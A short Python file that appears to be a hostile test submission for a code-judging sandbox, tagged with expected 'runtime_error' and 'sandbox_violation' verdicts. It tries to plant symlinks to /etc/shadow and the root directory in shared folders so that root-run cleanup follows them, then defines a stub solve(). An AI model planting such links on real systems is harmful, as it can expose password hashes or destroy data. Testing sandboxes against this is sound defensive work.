# verdicts: runtime_error, sandbox_violation
# Links that whoever cleans up as root would follow.
import os

WON = []
for folder in ("/", "/tmp", "/dev/shm", os.path.dirname(os.__file__)):
    for target in ("/etc/shadow", "/"):
        try:
            os.symlink(target, f"{folder}/allclose-hostile")
            WON.append(folder)
        except OSError:
            continue
assert WON


def solve(x, y):
    return x
